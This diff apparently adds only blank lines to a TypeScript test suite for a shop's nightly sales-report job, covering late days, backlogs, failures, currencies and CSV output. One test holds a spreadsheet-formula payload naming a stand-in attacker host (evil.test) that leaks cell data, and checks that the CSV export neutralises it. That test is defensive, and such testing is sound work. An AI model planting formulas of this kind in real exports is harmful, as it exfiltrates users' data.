@@ -66,6 +66,7 @@ const twoDays = async (wrap?: Wrap) => {
 test('each event counts on its own day, and the bytes of a day that is reported stay as they are', async () => {
   const { shop, id } = await twoDays();
   expect(await shop.report()).toEqual({ reported: 1, left: 0 });
+
   const first = { json: await shop.text('2026-03-01'), csv: await shop.text('2026-03-01', 'csv') };
   const sold = { ...none, placed: 1, confirmed: 1, units: 2, revenue: 2500 };
   expect(JSON.parse(first.json)).toEqual({
@@ -73,9 +74,11 @@ test('each event counts on its own day, and the bytes of a day that is reported 
     totals: [{ currency: 'EUR', ...sold }],
     products: [{ currency: 'EUR', productId: 'mug', name: 'MUG', ...sold }],
   });
+
   await shop.cancel({ orderId: id, principal: customer(), precondition: {} });
   await shop.drain();
   shop.clock.set('2026-03-03T02:00:00.000Z');
+
   expect(await shop.report()).toEqual({ reported: 1, left: 0 });
   expect((await shop.json('2026-03-02')).totals).toEqual([{ currency: 'EUR', ...none, cancelled: 1 }]);
   expect({ json: await shop.text('2026-03-01'), csv: await shop.text('2026-03-01', 'csv') }).toEqual(first);
@@ -104,6 +107,7 @@ test('an order that is short is rejected on its day, one that leaves is shipped 
   shop.clock.set('2026-03-04T02:00:00.000Z');
   await shop.report();
   const [first] = (await shop.json('2026-03-01')).totals;
+
   expect(first).toMatchObject({ placed: 2, confirmed: 1, rejected: 1, shipped: 0, units: 2, revenue: 2000 });
   expect((await shop.json('2026-03-03')).products).toMatchObject([{ ...none, productId: 'mug', shipped: 1 }]);
 });
@@ -111,6 +115,7 @@ test('an order that is short is rejected on its day, one that leaves is shipped 
 test('a day is open until a quarter of an hour after its end', async () => {
   const { shop } = await twoDays();
   shop.clock.set('2026-03-02T00:14:59.999Z');
+
   expect(await shop.report()).toEqual({ reported: 0, left: 0 });
   expect(shop.reports.names()).toEqual([]);
 });
@@ -128,8 +133,11 @@ test('skipped nights are made up for, including days without orders', async () =
   await shop.order('mug');
   await shop.drain();
   shop.clock.set('2026-03-05T02:00:00.000Z');
+
   expect(await shop.report()).toEqual({ reported: 3, left: 0 });
+
   const days = ['01', '02', '03', '04'].map((day) => `2026-03-${day}`);
+
   expect(shop.reports.names()).toEqual(days.flatMap((day) => [`sales/${day}.csv`, `sales/${day}.json`]));
   for (const day of ['2026-03-02', '2026-03-04']) {
     expect(await shop.json(day)).toEqual({ date: day, totals: [], products: [] });
@@ -142,6 +150,7 @@ test('the same night twice reports nothing again', async () => {
   const { shop } = await twoDays();
   await shop.report();
   const before = await shop.stored();
+
   expect(await shop.report()).toEqual({ reported: 0, left: 0 });
   expect(await shop.stored()).toEqual(before);
 });
@@ -153,6 +162,7 @@ test('two runs at once report every day once, with the same content', async () =
   const outcomes = shop.log.entries
     .filter(({ event }) => event === 'report_written')
     .map(({ fields }) => fields.outcome);
+
   expect(outcomes.filter((outcome) => outcome === 'created')).toHaveLength(5);
   expect(outcomes).toHaveLength(15);
   expect((await shop.json('2026-03-01')).totals).toMatchObject([{ placed: 1 }]);
@@ -172,6 +182,7 @@ const dyingAt = (format: 'csv' | 'json'): Wrap => {
 
 test.each(['csv', 'json'] as const)('the next run makes up for one that dies before the %s', async (format) => {
   const { shop } = await twoDays(dyingAt(format));
+
   await expect(shop.report()).rejects.toThrow('2026-03-01');
   expect(shop.reports.names()).toEqual(format === 'csv' ? [] : ['sales/2026-03-01.csv']);
   expect(await shop.report()).toEqual({ reported: 1, left: 0 });
@@ -181,6 +192,7 @@ test.each(['csv', 'json'] as const)('the next run makes up for one that dies bef
 test('a CSV with other content is neither accepted next to our JSON nor overwritten', async () => {
   const { shop } = await twoDays();
   await shop.reports.create('2026-03-01', 'csv', Buffer.from('other'));
+
   await expect(shop.report()).rejects.toThrow('2026-03-01');
   // The alert shows this to the operator, the only one who can fix it.
   expect(shop.log.entries.at(-1)).toMatchObject({
@@ -189,6 +201,7 @@ test('a CSV with other content is neither accepted next to our JSON nor overwrit
   });
   expect(shop.reports.names()).toEqual(['sales/2026-03-01.csv']);
   expect(await shop.text('2026-03-01', 'csv')).toBe('other');
+
   shop.reports.remove('2026-03-01', 'csv');
   expect(await shop.report()).toEqual({ reported: 1, left: 0 });
 });
@@ -205,13 +218,16 @@ test('a day that fails does not stop the reports of other days, and is named at 
     }),
   });
   shop.clock.set('2026-03-06T02:00:00.000Z');
+
   await expect(shop.report()).rejects.toThrow('2026-03-02, 2026-03-04');
   expect([...(await shop.reports.listDays())].toSorted()).toEqual(['2026-03-01', '2026-03-03', '2026-03-05']);
+
   const failures = shop.log.entries.filter(({ event }) => event === 'report_failed');
   expect(failures.map(({ level, fields }) => [level, fields.day, fields.reason])).toEqual([
     ['error', '2026-03-04', 'cosmos is not available.'],
     ['error', '2026-03-02', 'cosmos is not available.'],
   ]);
+
   broken = new Set();
   expect(await shop.report()).toEqual({ reported: 2, left: 0 });
 });
@@ -237,6 +253,7 @@ test('the newest day goes first, those of a backlog after it', async () => {
   const { shop } = await twoDays(wrap);
   shop.clock.set('2026-03-05T02:00:00.000Z');
   await shop.report();
+
   expect(tried).toEqual(['2026-03-04', '2026-03-03', '2026-03-02', '2026-03-01']);
 });
 
@@ -246,6 +263,7 @@ test('three days in a row for which a service was not available end the run, whi
   });
   const { shop } = await twoDays(wrap);
   shop.clock.set('2026-03-09T02:00:00.000Z');
+
   await expect(shop.report()).rejects.toThrow(
     '2026-03-04, 2026-03-05, 2026-03-06, 2026-03-08, and 3 further days were not tried',
   );
@@ -258,6 +276,7 @@ test('days that fail by themselves do not end the run, however many they are', a
   });
   const { shop } = await twoDays(wrap);
   shop.clock.set('2026-03-08T02:00:00.000Z');
+
   await expect(shop.report()).rejects.toThrow('2026-03-07. See');
   expect(tried).toHaveLength(7);
   expect([...(await shop.reports.listDays())]).toEqual(['2026-03-01']);
@@ -271,6 +290,7 @@ test('an order whose amounts cannot be added up fails its day loudly', async () 
     const items = stored.value.items.map((item) => ({ ...item, lineTotal: 2 ** 53 }));
     await shop.orders.replace({ ...stored.value, items }, stored.etag);
   }
+
   await expect(shop.report()).rejects.toThrow('2026-03-01');
   expect(shop.reports.names()).toEqual([]);
   expect(JSON.stringify(shop.log.entries)).toContain('not a safe integer');
@@ -287,6 +307,7 @@ test('a long run starts no further day after some minutes and says how many are 
     }),
   });
   shop.clock.set('2026-03-08T02:00:00.000Z');
+
   expect(await shop.report()).toEqual({ reported: 2, left: 5 });
   expect([...(await shop.reports.listDays())].toSorted()).toEqual(['2026-03-06', '2026-03-07']);
   expect(await shop.report()).toEqual({ reported: 2, left: 3 });
@@ -302,6 +323,7 @@ test('currencies have totals and rows of their own', async () => {
   shop.clock.set('2026-03-02T02:00:00.000Z');
   await shop.report();
   const { totals, products } = await shop.json('2026-03-01');
+
   expect(totals).toMatchObject([
     { currency: 'EUR', revenue: 2500 },
     { currency: 'USD', revenue: 2700 },
@@ -321,6 +343,7 @@ test('a name that a spreadsheet would calculate is unchanged in JSON, and text i
   await shop.order('mug');
   shop.clock.set('2026-03-02T02:00:00.000Z');
   await shop.report();
+
   expect((await shop.json('2026-03-01')).products[0].name).toBe(name);
   expect(await shop.text('2026-03-01', 'csv')).toContain(`,mug,"'=HYPERLINK(""http://evil.test?""&A1)",1,`);
 });
@@ -339,6 +362,7 @@ test('a day with many events logs its progress and how long it took', async () =
   });
   await shop.report();
   const signs = shop.log.entries.filter(({ event }) => event === 'report_progress').map(({ fields }) => fields.events);
+
   expect(signs).toEqual([10_000, 20_000, 30_000]);
   expect(shop.log.entries.at(-1)).toMatchObject({
     event: 'report_written',
